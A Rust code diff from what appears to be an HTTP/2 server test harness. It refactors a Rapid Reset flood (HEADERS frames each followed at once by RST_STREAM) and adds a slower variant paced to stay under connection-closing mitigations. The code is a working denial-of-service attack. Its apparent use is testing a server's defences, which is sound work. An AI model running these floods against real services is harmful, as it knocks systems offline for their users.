@@ -55,9 +55,21 @@ async fn shake(target: &Target, config: &Arc<ClientConfig>) -> Option<TlsStream<
     connector.connect(localhost(), stream).await.ok()
 }
 
-/// On so many connections at a time, sends what comes next, given how many times that was before; reads what comes, and begins anew.
+/// On some connections at a time, sends what comes next, given how many times that was before; reads what comes, and begins anew.
 async fn flood(target: Arc<Target>, begin: Vec<u8>, blows: usize, next: fn(u32) -> Vec<u8>) {
     let config = stranger(&target);
+    flood_with(config, target, begin, blows, Duration::ZERO, next).await;
+}
+
+/// The same of any client, which may pause each time.
+async fn flood_with(
+    config: Arc<ClientConfig>,
+    target: Arc<Target>,
+    begin: Vec<u8>,
+    blows: usize,
+    pause: Duration,
+    next: fn(u32) -> Vec<u8>,
+) {
     each(4, || {
         let (target, config, begin) = (target.clone(), config.clone(), begin.clone());
         async move {
@@ -71,6 +83,9 @@ async fn flood(target: Arc<Target>, begin: Vec<u8>, blows: usize, next: fn(u32) 
                     writer.write_all(&next(times)).await?;
                     writer.flush().await?;
                     target.count(blows);
+                    if !pause.is_zero() {
+                        sleep(pause).await;
+                    }
                 }
                 Ok(())
             };
@@ -88,14 +103,25 @@ fn stream(number: u32) -> u32 {
     number * 2 + 1
 }
 
+/// So many requests that are taken back at once, the next ones after those before.
+fn taken_back(many: u32, times: u32) -> Vec<u8> {
+    let reset = |number| {
+        let id = stream(times * many + number);
+        let asked = frame(HEADERS, END_STREAM | END_HEADERS, id, GET);
+        [asked, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
+    };
+    (0..many).flat_map(reset).collect()
+}
+
 pub(super) async fn rapid_reset(target: Arc<Target>) {
-    flood(target, begin(&[]), 100, |times| {
-        let reset = |number| {
-            let id = stream(times * 100 + number);
-            let asked = frame(HEADERS, END_STREAM | END_HEADERS, id, GET);
-            [asked, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
-        };
-        (0..100).flat_map(reset).collect()
+    flood(target, begin(&[]), 100, |times| taken_back(100, times)).await;
+}
+
+/// The same of any client, and so few at a time that no connection ends for that.
+pub(super) async fn slow_reset(config: Arc<ClientConfig>, target: Arc<Target>) {
+    let pause = Duration::from_millis(2);
+    flood_with(config, target, begin(&[]), 16, pause, |times| {
+        taken_back(16, times)
     })
     .await;
 }
